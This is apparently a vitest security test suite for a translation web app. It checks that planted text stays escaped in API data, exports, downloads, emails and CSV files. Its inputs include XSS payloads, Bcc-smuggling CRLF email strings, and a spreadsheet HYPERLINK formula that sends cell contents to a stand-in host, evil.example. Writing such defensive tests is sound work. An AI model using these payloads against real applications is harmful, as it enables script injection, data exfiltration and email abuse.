import { downloadResponse, listPromptsResponse, savedPromptResponse } from '@verso/contracts';
import { auditLog, users } from '@verso/db';
import { eq } from '@verso/db/query';
import { docx, paragraph } from '@verso/engine/fixtures';
import { type Simulator, startSimulator } from '@verso/simulator';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readOutbox, send, signUp, type TestUser } from '../../src/testing/index.ts';
import { signUpAdministrator } from '../admin/administrator.ts';
import { invitationSubject, invite, signUpOwner } from '../teams/team.ts';
import { geminiOf, setPlan, start, until } from '../translations/client.ts';
import { bootWatched, type WatchedServer } from './watched-server.ts';

const script = '<script>alert(1)</script>';
const image = '"><img src=x onerror=alert(1)>';
const formula = '=HYPERLINK("http://evil.example?"&A1,"x")';
const lines = 'Acme\r\nBcc: everybody@example.com\r\n\r\nBuy now';

/** Text that a browser would interpret as markup anywhere in a page. */
const markup = /<script>alert|<img src=x/;

describe('planted text', () => {
  let simulator: Simulator;
  let server: WatchedServer;
  let user: TestUser;
  let admin: TestUser;
  beforeAll(async () => {
    simulator = await startSimulator();
    // A model that repeats its input outputs whatever an attacker wants.
    simulator.behave({ rates: { echo: 1 } });
    server = await bootWatched({ env: geminiOf(simulator) });
    user = await signUp(server);
    admin = await signUpAdministrator(server);
    await setPlan(server, user, 'pro');
  });
  afterAll(async () => {
    await server.close();
    await simulator.close();
  });

  const expectData = async (path: string, caller: TestUser = user) => {
    const answer = await send(server, path, { user: caller });
    expect([path, answer.status]).toEqual([path, 200]);
    expect(answer.headers.get('content-type')).toContain('application/json');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('cache-control')).toBe('no-store');
    expect(answer.headers.get('content-security-policy')).toContain("script-src 'self';");
    return answer.text();
  };
  const expectAttachment = async (answer: Response) => {
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="/);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(answer.headers.get('content-security-policy')).toContain('sandbox');
    expect(answer.headers.get('content-type')).not.toMatch(/html|svg|javascript/);
    return answer;
  };

  it('reaches browsers as data or as an attachment from file names and documents', async () => {
    const filename = `${image}.md`;
    const { id } = await start(server, user, {
      bytes: Buffer.from(`# ${script}\n\n${image}\n\nAn honest line about the weather.\n`),
      filename,
      mimeType: 'text/markdown',
    });
    await until(server, user, id, 'completed');
    expect(await expectData('/api/translations')).toContain('onerror');
    await expectData(`/api/translations/${id}`);
    await expectData(`/api/translations/${id}/units`);
    for (const kind of ['original', 'translated']) {
      const linked = await send(server, `/api/translations/${id}/download?kind=${kind}`, { user });
      const { url } = downloadResponse.parse(await linked.json());
      const file = await expectAttachment(await fetch(new URL(url, server.url)));
      expect(file.headers.get('content-disposition')).not.toMatch(/[\r\n]|filename="[^"]*"[^;]/);
    }
    for (const format of ['html', 'xliff', 'tmx', 'docx']) {
      const path = `/api/translations/${id}/export?format=${format}`;
      const text = await (await expectAttachment(await send(server, path, { user }))).text();
      expect(text).not.toMatch(markup);
    }
  });

  it('is escaped in every page and file made from a model answer', async () => {
    const { id } = await start(server, user, {
      bytes: docx(paragraph(`Say ${script} ${image} to everybody`)),
    });
    await until(server, user, id, 'completed');
    const units = JSON.parse(await expectData(`/api/translations/${id}/units`));
    expect(JSON.stringify(units)).toMatch(markup);
    const page = await (await send(server, `/api/translations/${id}/export?format=html`, { user })).text();
    expect(page.match(/&lt;script/g)?.length).toBe(2);
    expect(page).not.toMatch(markup);
  });

  it('reaches browsers as data from prompts, names and feedback', async () => {
    const saved = await send(server, '/api/prompts', {
      user,
      json: { name: script, prompt_content: image, category: 'legal', visibility: 'public' },
    });
    savedPromptResponse.parse(await saved.json());
    const prompts = await expectData('/api/prompts');
    expect(listPromptsResponse.parse(JSON.parse(prompts)).prompts.map(({ name }) => name)).toContain(script);
    await send(server, '/api/feedback/submit', {
      user,
      json: { type: 'bug', message: image, userAgent: script, metadata: {} },
    });
    await expectData('/api/admin/feedback', admin);
    await send(server, '/api/auth/update-user', { cookieOf: user, json: { name: script } });
    expect(await expectData('/api/me')).toContain('<script>');
    await expectData('/api/admin/users', admin);
  });

  it('is not echoed by any page from its address', async () => {
    for (const path of [
      `/?q=${encodeURIComponent(script)}`,
      `/${encodeURIComponent(image)}`,
      `/api/${script}`,
    ]) {
      const answer = await send(server, path, { headers: { accept: 'text/html' } });
      expect(await answer.text()).not.toMatch(markup);
    }
  });

  it('adds no markup or headers to mails from names of workspaces and users', async () => {
    const owner = await signUpOwner(server, `${image} ${lines}`.slice(0, 60));
    await invite(server, owner, 'guest@example.com');
    const { mail } = await readOutbox(server.directory, 'guest@example.com', invitationSubject);
    expect(mail.html ?? '').not.toMatch(markup);
    expect(mail.headers.map(({ key }) => key)).not.toContain('bcc');
    expect(mail.bcc ?? []).toEqual([]);
    expect(mail.to).toHaveLength(1);
  });

  it('adds no recipient to mails from an account address', async () => {
    for (const email of [
      'victim@example.com\r\nBcc: x@example.com',
      'victim@example.com, other@example.com',
      'victim@example.com%0aBcc:x@example.com',
    ]) {
      const answer = await send(server, '/api/auth/sign-up/email', {
        json: { name: 'n', email, password: 'correct horse battery' },
      });
      expect(answer.status).toBeGreaterThanOrEqual(400);
      expect(answer.status).toBeLessThan(500);
    }
    await server.expectLogged({ route: '/api/auth/sign-up/email' }, 'Bcc');
  });

  describe('as a formula', () => {
    const expectHarmlessCsv = async (path: string, caller: TestUser) => {
      const answer = await expectAttachment(await send(server, path, { user: caller }));
      const text = await answer.text();
      for (const cell of text.split(/\r\n|,/)) expect(cell).not.toMatch(/^"?[=+\-@\t\r](?!\d)/);
      return text;
    };

    it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', formula])(
      'is escaped in the audit log: %j',
      async (text) => {
        await server.context.database.orm.insert(auditLog).values({
          actorId: admin.id,
          actorEmail: text,
          action: text,
          entity: text,
          entityId: text,
        });
        const csv = await expectHarmlessCsv('/api/admin/audit-log/export', admin);
        expect(csv).toContain(`'${text}`.replaceAll('"', '""'));
      },
    );

    it('is escaped in the usage log and in the account export', async () => {
      await server.context.database.orm.update(users).set({ name: formula }).where(eq(users.id, user.id));
      await expectHarmlessCsv('/api/account/usage.csv', user);
      const archive = await send(server, '/api/account/export', { user });
      await expectAttachment(archive);
    });
  });
});
